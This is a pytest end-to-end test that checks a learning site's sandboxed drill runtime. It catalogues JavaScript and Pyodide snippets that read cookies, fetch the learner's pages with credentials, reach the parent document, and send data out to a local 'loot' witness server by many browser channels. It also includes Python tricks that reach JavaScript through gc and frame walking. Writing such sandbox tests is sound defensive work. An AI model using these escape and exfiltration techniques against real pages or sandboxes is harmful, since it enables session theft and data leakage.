"""What code in the frame of drills could try to get at a learner's session, pages and data, or to carry anything away.

Each way is first tried in a frame of the same address without sandbox and policy, where it has to be seen to succeed:
a test that cannot see a way out proves nothing by not seeing it. Then the same code runs in the frame of the runtime:
as if its own document were taken over, in a worker of it as if the interpreter were, and in Python.
"""

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.e2e.test_runtime import OPEN, POLICY, run

pytestmark = pytest.mark.django_db(transaction=True)

LONG = 20  # seconds that a way may take on a busy machine, where the control takes it
LATE = 1.5  # seconds after which what has not arrived is taken not to come

# In a document. `loot` is an address of the witness, which remembers what was asked of it; true is success as well.
IN_A_DOCUMENT = {
    "cookies": "return document.cookie.includes('visible=yes')",
    "cookie store": "return (await cookieStore.getAll()).some((cookie) => cookie.name === 'visible')",
    "a page of the learner": """
        const page = await fetch("/settings/", { credentials: "include" });
        return (await page.text()).includes("alice")""",
    "a page by XMLHttpRequest": """
        const asked = new XMLHttpRequest();
        asked.open("GET", "/settings/", false);
        asked.send();
        return asked.responseText.includes("alice")""",
    "a write with credentials": """
        const body = new URLSearchParams({ theme: "dark" });
        return (await fetch("/theme/", { method: "POST", body, credentials: "include" })).status > 0""",
    "the parent's document": "return parent.document.title === 'Bare'",
    "the parent's address": "return parent.location.href.length > 0",
    "a name in the parent": "return typeof parent.runtime === 'object'",
    "a change in the parent": "parent.document.title = 'Bare'; return true",
    "local storage": "localStorage.setItem('loot', 'x'); return localStorage.getItem('loot') === 'x'",
    "session storage": "sessionStorage.setItem('loot', 'x'); return sessionStorage.getItem('loot') === 'x'",
    "IndexedDB": """return await new Promise((done, failed) => {
        const asked = indexedDB.open("loot");
        asked.onsuccess = () => { asked.result.close(); done(true); };
        asked.onerror = failed;
    })""",
    "caches": "return Boolean(await caches.open('python'))",
    "private files": "return Boolean(await navigator.storage.getDirectory())",
    "a lock of the site": "return await navigator.locks.request('loot', () => true)",
    "service worker": "return Array.isArray(await navigator.serviceWorker.getRegistrations())",
    "shared worker": "return Boolean(new SharedWorker('/static/js/print.js'))",
    "a worker from our address": "return Boolean(new Worker('/static/js/print.js'))",
    "navigating the page": "top.location.href = loot",
    "replacing the page": "top.location.replace(loot)",
    "popup": "return window.open(loot) !== null",
    "form": """
        const form = document.createElement("form");
        Object.assign(form, { action: loot, method: "post" });
        document.documentElement.append(form);
        form.submit()""",
    "form to the page": """
        const form = document.createElement("form");
        Object.assign(form, { action: loot, target: "_top" });
        document.documentElement.append(form);
        form.submit()""",
    "link to the page": """
        const link = document.createElement("a");
        Object.assign(link, { href: loot, target: "_top" });
        document.documentElement.append(link);
        link.click()""",
    "beacon": "navigator.sendBeacon(loot, 'x')",
    "fetch": "await fetch(loot, { mode: 'no-cors' })",
    "fetch that outlives": "fetch(loot, { mode: 'no-cors', keepalive: true })",
    "WebSocket": "new WebSocket(loot.replace('http', 'ws'))",
    "EventSource": "new EventSource(loot)",
    "WebRTC": """
        const peer = new RTCPeerConnection();
        peer.createDataChannel("loot");
        return (await peer.createOffer()).sdp.length > 0""",
    "image": "new Image().src = loot",
    "video": "document.createElement('video').src = loot",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: loot }))",
    "style sheet": """
        const link = document.createElement("link");
        document.head.append(Object.assign(link, { rel: "stylesheet", href: loot }))""",
    "font": "await new FontFace('loot', `url(${loot})`).load()",
    "object": "document.documentElement.append(Object.assign(document.createElement('object'), { data: loot }))",
    "frame": "document.documentElement.append(Object.assign(document.createElement('iframe'), { src: loot }))",
    "remote import": "return (await import(loot)).taken",
    "an inline script": """
        const script = document.createElement("script");
        script.textContent = "self.isTaken = true";
        document.head.append(script);
        return self.isTaken""",
    "BroadcastChannel": "new BroadcastChannel('loot').postMessage(loot)",
    "download": """
        const link = document.createElement("a");
        Object.assign(link, { href: URL.createObjectURL(new Blob(["x"])), download: loot.split("/").at(-1) });
        document.documentElement.append(link);
        link.click()""",
    "prefetch": """
        const link = document.createElement("link");
        document.head.append(Object.assign(link, { rel: "prefetch", href: loot }))""",
    "a ping": """
        const link = document.createElement("a");
        Object.assign(link, { href: "#", ping: loot });
        document.documentElement.append(link);
        link.click()""",
    "an imported style": """
        const style = document.createElement("style");
        style.textContent = `@import url(${loot});`;
        document.head.append(style)""",
    "a background": """
        document.documentElement.style.background = `url(${loot})`;
        document.body.append("x")""",
    "WebRTC of a frame within": """
        const inner = document.createElement("iframe");
        document.documentElement.append(inner);
        const peer = new inner.contentWindow.RTCPeerConnection();
        peer.createDataChannel("loot");
        return (await peer.createOffer()).sdp.length > 0""",
    "WebRTC of a document within": """
        const code = `const peer = new RTCPeerConnection();
            peer.createDataChannel("loot");
            peer.createOffer().then((offer) => parent.postMessage(offer.sdp.length, "*"));`;
        const script = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
        const heard = new Promise((done) => addEventListener("message", ({ data }) => done(data > 0)));
        const inner = document.createElement("iframe");
        inner.srcdoc = `<script src="${script}"></` + `script>`;
        document.documentElement.append(inner);
        return await heard""",
    "dialog": "alert(loot)",
    "storage access": "return document.hasStorageAccess && await document.hasStorageAccess()",
}

# In a worker made of a blob, as the interpreter's is.
IN_A_WORKER = {
    "fetch": "await fetch(loot, { mode: 'no-cors' })",
    "XMLHttpRequest": "const asked = new XMLHttpRequest(); asked.open('GET', loot, false); asked.send()",
    "our page": "return (await (await fetch(`${site}/about/`)).text()).includes('prep')",
    "WebSocket": "new WebSocket(loot.replace('http', 'ws'))",
    "EventSource": "new EventSource(loot)",
    "importScripts": "importScripts(loot)",
    "remote import": "return (await import(loot)).taken",
    "nested worker": """
        const code = `fetch(${JSON.stringify(loot)}, { mode: 'no-cors' })`;
        new Worker(URL.createObjectURL(new Blob([code])))""",
    "IndexedDB": """return await new Promise((done, failed) => {
        const asked = indexedDB.open("loot");
        asked.onsuccess = () => { asked.result.close(); done(true); };
        asked.onerror = failed;
    })""",
    "caches": "return Boolean(await caches.open('python'))",
    "BroadcastChannel": "new BroadcastChannel('loot').postMessage(loot)",
    "eval": "return eval('1 + 1') === 2",
    "Function": "return new Function('return 1 + 1')() === 2",
}

# In Python, which prints OUT. What reaches JavaScript at all would be where such code begins.
IN_PYTHON = {
    "js": "import js\nprint('OUT' if js.fetch else '')",
    "pyodide_js": "import pyodide_js\nprint('OUT' if pyodide_js.version else '')",
    "_pyodide_core": "import _pyodide_core\nprint('OUT')",
    "run_js": "from pyodide.code import run_js\nprint('OUT' if run_js('1 + 1') == 2 else '')",
    "open_url": "from pyodide.http import open_url\nprint('OUT' if open_url('/about/').read() else '')",
    "sys.modules": "import sys\nprint('OUT' if sys.modules['js'].fetch else '')",
    "what the collector knows": """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "JsFinder" and any(hasattr(proxy, "fetch") for proxy in thing.jsproxies.values()):
        print("OUT")
""",
    "a function from JavaScript": """
import sys
frame, things = sys._getframe(), []
while frame:
    things += [*frame.f_locals.values(), *frame.f_globals.values()]
    frame = frame.f_back
for thing in things:
    if hasattr(thing, "js_id"):
        make = thing.constructor
        while hasattr(make, "constructor") and make.name != "Function":
            make = make.constructor
        print("OUT" if make("return 1 + 1")() == 2 else "")
        break
""",
}


class Witness(BaseHTTPRequestHandler):
    """Remembers each path that is asked. Programs get a program, everything else an answer without anything in it."""

    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.seen.add(self.path.strip("/?"))
        text = b"" if "import" not in self.path else b"export const taken = true;"
        text = b"self.taken = true;" if "importScripts" in self.path else text
        self.send_response(200 if text else 204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    do_GET = do_POST = do_OPTIONS = answer  # noqa: N815 - names of http.server

    def log_message(self, *arguments):
        pass


@pytest.fixture
def witness():
    """A server at another address. What pages and browser notice goes into `seen` as well."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Witness) as server:
        server.seen = set()
        server.address = f"http://localhost:{server.server_address[1]}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


class Place:
    """A frame in which ways are tried, and what was seen of them."""

    def __init__(self, page, frame, witness, site):
        self.page, self.frame, self.witness, self.site = page, frame, witness, site
        self.said = set()

    def attempt(self, body, way, *, in_a_worker=False):
        """In the frame's document, or in a worker made there. An error is a failure, as is whatever takes too long."""
        code = f"""async (loot, site) => {{
            try {{ return Boolean(await (async () => {{ {body} }})()); }} catch {{ return false; }}
        }}"""
        given = [f"{self.witness.address}/{way}", self.site]
        if in_a_worker:
            source = f"({code})(...{given}).then((said) => postMessage(said), () => postMessage(false))"
            started = """([source, longest]) => new Promise((done) => {
                const worker = new Worker(URL.createObjectURL(new Blob([source])));
                worker.onmessage = ({ data }) => done(data);
                setTimeout(done, longest, false);
            })"""
            is_out = self.frame.evaluate(started, [source, LONG * 1_000])
        else:
            late = f"new Promise((done) => setTimeout(done, {LONG * 1_000}))"
            timed = f"([loot, site]) => Promise.race([({code})(loot, site), {late}])"
            is_out = self.frame.evaluate(timed, given)
        if is_out:
            self.said.add(way)

    def seen(self):
        """Which ways led out so far."""
        heard = self.page.evaluate("heard")
        return self.said | self.witness.seen | {address.rpartition("/")[2] for address in heard}

    def seen_in_time(self, way):
        end = time.monotonic() + LONG
        while way not in self.seen() and time.monotonic() < end:
            self.page.wait_for_timeout(50)


def named(place, way):
    return f"{place}.{way.replace(' ', '-')}"


CONTROL_IN_PYTHON = """async (snippets) => {
    const folder = "/static/vendor/pyodide/314.0.7/";
    const { loadPyodide, version } = await import(`${folder}pyodide.mjs`);
    const info = { abi_version: "2026_0", arch: "wasm32", platform: "emscripten_5_0_3", python: "3.14.2", version };
    const said = {};
    let way;
    const python = await loadPyodide({
        indexURL: folder, lockFileContents: { info, packages: {} }, packageBaseUrl: folder, stderr: () => {},
        stdout: (line) => { said[way] = line; },
    });
    python.globals.set("send", () => {});
    for (way in snippets) { try { python.runPython(snippets[way]); } catch (error) { said[way] = String(error); } }
    return said;
}"""


@pytest.fixture
def places(browser, base_url, witness, alice, sign_in):
    """Two pages of the learner: one that nothing holds, with a frame of the same kind, and one like a drill's."""
    context = browser.new_context()
    opened = context.new_page()
    sign_in(opened, alice)
    context.add_cookies([{"name": "visible", "value": "yes", "url": base_url}])
    html = {"Content-Type": "text/html"}
    policies = {"/bare/": html | {"Content-Security-Policy": POLICY}, "/plain/": html, "/control/": html}
    for address, headers in policies.items():
        context.route(f"**{address}", answered(headers))
    pages = {"/plain/": context.new_page(), "/bare/": opened}
    for address, page in pages.items():
        page.on("dialog", lambda dialog: (witness.seen.add(dialog.message.rpartition("/")[2]), dialog.dismiss()))
        page.on("download", lambda download: witness.seen.add(download.suggested_filename))
        page.goto(f"{base_url}{address}")
        page.evaluate("""() => {
            self.heard = [];
            new BroadcastChannel("loot").onmessage = ({ data }) => heard.push(data);
        }""")
    pages["/plain/"].evaluate("""() => new Promise((loaded) => {
        self.runtime = {};
        document.body.append(Object.assign(document.createElement("iframe"), { src: "/control/", onload: loaded }));
    })""")
    pages["/bare/"].evaluate(OPEN)
    yield [
        Place(page, page.frame(url=f"**{frame}"), witness, base_url)
        for page, frame in zip(pages.values(), ("/control/", "/runtime/"), strict=True)
    ]
    context.close()


def answered(headers):
    return lambda route: route.fulfill(body="<!doctype html><title>Bare</title>", headers=headers)


def test_what_leads_out_of_a_plain_frame_does_not_lead_out_of_the_runtimes(places, witness):
    control, runtime = places
    ways = [("document", way, body, False) for way, body in IN_A_DOCUMENT.items()]
    ways += [("worker", way, body, True) for way, body in IN_A_WORKER.items()]
    expected = {named(place, way) for place, way, *_ in ways} | {"leaving"}
    assert len(expected) > 50

    for place, way, body, in_a_worker in ways:
        control.attempt(body, named(place, way), in_a_worker=in_a_worker)
        control.seen_in_time(named(place, way))
    control.attempt("location.href = loot", "leaving")
    control.seen_in_time("leaving")
    assert expected - control.seen() == set(), "the test does not see these"

    witness.seen.clear()
    runtime.page.evaluate("heard.length = 0")
    for place, way, body, in_a_worker in ways:
        runtime.attempt(body, named(place, way), in_a_worker=in_a_worker)
    runtime.page.wait_for_timeout(LATE * 1_000)
    assert runtime.seen() == set()
    assert run(runtime.page, "print('still here')")["output"] == "still here\n"

    assert control.frame.evaluate(CONTROL_IN_PYTHON, IN_PYTHON) == dict.fromkeys(IN_PYTHON, "OUT")
    for way, code in IN_PYTHON.items():
        assert "OUT" not in run(runtime.page, code)["output"], way

    runtime.attempt("location.href = loot", "leaving")
    runtime.page.wait_for_timeout(LATE * 1_000)
    assert runtime.seen() == set()
